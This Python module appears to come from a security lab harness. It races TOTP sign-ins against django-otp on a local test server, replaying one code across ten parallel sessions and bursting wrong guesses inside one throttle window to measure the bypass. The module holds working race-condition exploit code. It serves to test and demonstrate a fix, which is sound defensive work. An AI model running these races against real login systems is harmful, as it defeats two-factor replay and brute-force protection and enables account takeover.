"""Races: one-time state that the lab reads, then writes, without a lock.

django-otp checks a TOTP device's throttle and last used step, then saves them. Requests
that arrive together all read the old values: one code signs in several sessions, and a
burst of wrong guesses is checked in full inside a single throttle window. Both attacks
here open their sessions first (password step), then send every code at the same instant
from its own thread, over real HTTP to a threaded server. The lab closes them by
writing that state atomically (lab_project.guard: a conditional UPDATE whose row count
decides, inside a transaction that holds the write lock).
"""

import threading

from .. import wizards
from ..client import HttpClient
from ..otp import totp_code
from ..totp_math import guess_probability, throttled_attempts
from .bruteforce import DAY, THROTTLED
from .relay import lab_url
from .results import AttackResult, lab_name, stopwatch


def at_once(actions):
    """Call every action from its own thread, all released by one barrier; their results in order."""
    barrier = threading.Barrier(len(actions))
    results = [None] * len(actions)

    def run(index, action):
        barrier.wait()
        results[index] = action()

    threads = [threading.Thread(target=run, args=item, daemon=True) for item in enumerate(actions)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    return results


def sessions_at_token_step(url, lab, username, count):
    """`count` browser sessions, each past the password step of `username`."""
    clients = [HttpClient(url) for _ in range(count)]
    for client in clients:
        wizards.password_step(client, username, lab.persona(username).password)
    return clients


def retried(attack, tries):
    """Run a race up to `tries` times (an attacker simply tries again); the first win, else the last run."""
    for attempt in range(1, tries + 1):
        result = attack()
        result.evidence["tries"] = attempt
        if result.succeeded:
            break
    return result


def parallel_replay(lab, username="alice", sessions=10, *, tries=1):
    """One TOTP code (the victim's, seen by the attacker) sent in `sessions` sessions at once."""
    return retried(lambda: _parallel_replay(lab, username, sessions), tries)


def _parallel_replay(lab, username, sessions):
    lab.forget_used_codes(username)
    lab.forget_failures(username)
    with stopwatch() as watch, lab_url(lab) as url:
        clients = sessions_at_token_step(url, lab, username, sessions)
        code = lab.current_code(username)
        pages = at_once([lambda client=client: wizards.token_step(client, code) for client in clients])
    signed_in = sum(wizards.signed_in(page) for page in pages)
    errors = sorted({" ".join(wizards.form_errors(page)) for page in pages if not wizards.signed_in(page)})
    ok = signed_in > 1
    reason = (f"one code signed in {signed_in} of {sessions} parallel sessions: the used step is read, then "
              "written, without a lock" if ok else
              f"one code signed in {signed_in} of {sessions} parallel sessions; the others were refused")
    return AttackResult("parallel replay, one code in 10 sessions", "TOTP", lab_name(lab), ok, attempts=sessions,
                        elapsed=watch.elapsed, reason=reason,
                        evidence={"sessions": sessions, "signed in": signed_in, "code": code, "refusals": errors})


def wrong_codes(lab, username, count):
    """`count` distinct codes that are certainly wrong now (none of the window's codes)."""
    import time

    device = next(d for d in lab.devices(username) if type(d).__name__ == "TOTPDevice")
    now = int(time.time()) // device.step
    valid = {totp_code(device.bin_key, s * device.step, step=device.step, digits=device.digits)
             for s in range(now - 2, now + 3)}
    return [code for code in (f"{n:06d}" for n in range(100000, 100000 + count + len(valid))) if code not in valid][
        :count]


def bursts_a_day(rise):
    """Bursts that fit in a day when each burst raises the failure count by `rise` (>= 1)."""
    if rise <= 1:
        return throttled_attempts(DAY)
    bursts, elapsed = 1, 0.0
    while elapsed + 2 ** (bursts * rise - 1) <= DAY:
        elapsed += 2 ** (bursts * rise - 1)
        bursts += 1
    return bursts


def parallel_guessing(lab, username="root", guesses=20, *, tries=1):
    """`guesses` wrong codes sent at once, from a fresh throttle: how many did the lab check?"""
    return retried(lambda: _parallel_guessing(lab, username, guesses), tries)


def _parallel_guessing(lab, username, guesses):
    lab.forget_failures(username)
    with stopwatch() as watch, lab_url(lab) as url:
        clients = sessions_at_token_step(url, lab, username, guesses)
        codes = wrong_codes(lab, username, guesses)
        pages = at_once([lambda client=client, code=code: wizards.token_step(client, code)
                         for client, code in zip(clients, codes)])
    errors = [" ".join(wizards.form_errors(page)) for page in pages]
    checked = sum(THROTTLED not in error for error in errors)
    rise = next(d for d in lab.devices(username) if type(d).__name__ == "TOTPDevice").throttling_failure_count
    per_day = checked * bursts_a_day(max(rise, 1))
    evidence = {"guesses sent at once": guesses, "checked": checked, "refused unchecked": guesses - checked,
                "failure count after the burst": rise, "parallel factor": checked,
                "guesses a day (formula, one at a time)": throttled_attempts(DAY),
                "guesses a day (bursts, measured factor)": per_day,
                "P(success) in a day (bursts)": guess_probability(per_day)}
    ok = checked > 1
    reason = (f"{checked} of {guesses} parallel guesses were checked in one throttle window (the count rose "
              f"by {rise}): {per_day} guesses a day instead of {throttled_attempts(DAY)}" if ok else
              f"{checked} of {guesses} parallel guesses was checked; the rest were refused unchecked")
    return AttackResult("parallel guessing, 20 codes at once", "TOTP", lab_name(lab), ok, attempts=guesses,
                        elapsed=watch.elapsed, evidence=evidence, reason=reason)
